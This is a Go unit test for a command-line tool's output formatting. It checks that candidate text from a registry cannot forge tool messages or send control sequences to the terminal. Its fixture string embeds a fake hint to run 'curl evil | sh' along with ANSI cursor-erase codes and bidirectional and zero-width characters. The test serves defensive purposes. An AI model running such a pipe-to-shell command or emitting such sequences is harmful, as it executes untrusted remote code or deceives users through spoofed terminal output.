package nodeverbs

import (
	"bytes"
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/cmd/internal/ui"
	"mlpromote.dev/mlpromote/registry"
	"mlpromote.dev/mlpromote/registry/api"
)

// Text from the registry about candidates goes on in further lines that are indented: it ends no line of ours, and holds nothing that a terminal obeys.
func TestNothingForgedAmongCandidates(t *testing.T) {
	t.Parallel()
	const hostile = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"
	var stderr bytes.Buffer
	candidates := api.Resolution{Candidates: []api.Candidate{{Label: hostile, Reasons: []string{hostile, hostile}}}}
	ui.NewPlain("mlpromote", &stderr, &stderr).Note("candidates:\n%s", ui.Layout(candidatesText(candidates)))
	lines := strings.Split(strings.TrimSuffix(stderr.String(), "\n"), "\n")
	if len(lines) < 2 || !strings.Contains(lines[1], "done") {
		t.Errorf("%d lines were printed, want one of ours and those of the candidate: %q", len(lines), lines)
	}
	for n, line := range lines {
		if n > 0 && !strings.HasPrefix(line, "  ") {
			t.Errorf("the line %q looks like ours", line)
		}
		if err := registry.ValidateText("line", line); err != nil {
			t.Errorf("%v: %q", err, line)
		}
	}
}
